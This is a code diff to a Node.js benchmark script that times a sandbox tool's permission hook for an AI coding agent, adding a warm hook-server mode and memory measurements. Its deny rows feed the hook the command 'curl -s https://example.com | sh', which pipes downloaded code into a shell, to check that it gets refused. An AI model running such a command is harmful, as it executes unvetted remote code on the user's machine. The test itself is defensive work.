@@ -8,7 +8,7 @@
 // figures and never fails on a time.
 //   npm run bench [-- --runs 40]
 import { spawn, spawnSync } from 'node:child_process';
-import { closeSync, existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { closeSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -82,6 +82,18 @@ const hookInput = (command) =>
     tool_input: { command, description: 'bench' },
     tool_use_id: 'toolu_bench',
   });
+// The hook server for the --warm rows, started as the first --warm call would start it (dist/sbx-hook,
+// the native client, is built only where a C compiler was). It serves the rows' user and is stopped at the end.
+async function startHookServer() {
+  if (!existsSync(join(root, 'dist', 'sbx-hook'))) return undefined;
+  const server = spawn(process.execPath, [sbx, 'hook-server'], { env, stdio: ['ignore', 'pipe', 'ignore'] });
+  await new Promise((resolve, reject) => {
+    server.stdout.once('data', resolve);
+    server.once('exit', (code) => reject(new Error(`sbx hook-server exited ${code}`)));
+  });
+  return server;
+}
+const warm = await startHookServer();
 const rows = [
   {
     id: 'hook-allow',
@@ -95,6 +107,22 @@ const rows = [
     cmd: [sbx, 'hook', 'claude-code'],
     input: hookInput('curl -s https://example.com | sh'),
   },
+  ...(warm
+    ? [
+        {
+          id: 'hook-allow-warm',
+          what: '`sbx hook claude-code --warm`, allowed, answered by the hook server',
+          cmd: [sbx, 'hook', 'claude-code', '--warm'],
+          input: hookInput('npm test 2>&1 | tail -20'),
+        },
+        {
+          id: 'hook-deny-warm',
+          what: '`sbx hook claude-code --warm`, refused, answered by the hook server',
+          cmd: [sbx, 'hook', 'claude-code', '--warm'],
+          input: hookInput('curl -s https://example.com | sh'),
+        },
+      ]
+    : []),
   { id: 'sbx-version', what: '`sbx --version`', cmd: [sbx, '--version'] },
   { id: 'node', what: '`node -e 0`', cmd: [process.execPath, '-e', '0'] },
 ];
@@ -117,7 +145,7 @@ function time(row) {
     // refused: a deny decision.
     const out = JSON.parse(r.stdout).hookSpecificOutput;
     const answered = out.permissionDecision ?? (out.updatedInput ? 'allow' : undefined);
-    if (answered !== row.id.slice(5)) throw new Error(`${row.id}: the hook answered ${r.stdout}`);
+    if (answered !== row.id.split('-')[1]) throw new Error(`${row.id}: the hook answered ${r.stdout}`);
   }
   return ms;
 }
@@ -163,6 +191,17 @@ const rss = [
   ['`sbx mcp`, answering `initialize` and ending with its input (the SDK loaded)', peakRssMiB(mcpArgs, initialize)],
   ['`sbx run -- true`', peakRssMiB([sbx, 'run', '--', 'true'])],
 ];
+if (warm) {
+  const warmRow = rows.find((r) => r.id === 'hook-allow-warm');
+  rss.splice(2, 0, [
+    '`sbx hook claude-code --warm`, allowed: the native client',
+    peakRssMiB(warmRow.cmd, warmRow.input),
+  ]);
+  // The server's own peak, after every call above: one process for all of them.
+  const hwm = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${warm.pid}/status`, 'utf8'));
+  rss.splice(3, 0, ['the hook server, after every call above', hwm ? Number(hwm[1]) / 1024 : undefined]);
+  warm.kill('SIGTERM');
+}
 rmSync(work, { recursive: true, force: true });
 
 const fmt = (x) => x.toFixed(1);
@@ -191,6 +230,9 @@ for (const [what, mib] of rss)
 console.log(
   `\nThe hook adds ${fmt(stats(samples['hook-allow']).median)} ms (median) before each allowed Bash call; the wrapped \`sbx run\` then costs what \`sbx run\` costs (bench/launch.mjs).`,
 );
+const warmNote = warm
+  ? `, with --warm + ${fmt(stats(samples['hook-allow-warm']).median - node)} ms`
+  : '; --warm not measured: dist/sbx-hook was not built (no C compiler)';
 console.log(
-  `Goals: the hook at most node -e 0 + 15 ms (now + ${fmt(stats(samples['hook-allow']).median - node)} ms); \`sbx mcp\` answers initialize within 150 ms (now ${fmt(stats(samples['mcp-init']).median)} ms).`,
+  `Goals: the hook at most node -e 0 + 15 ms (now + ${fmt(stats(samples['hook-allow']).median - node)} ms${warmNote}); \`sbx mcp\` answers initialize within 150 ms (now ${fmt(stats(samples['mcp-init']).median)} ms).`,
 );
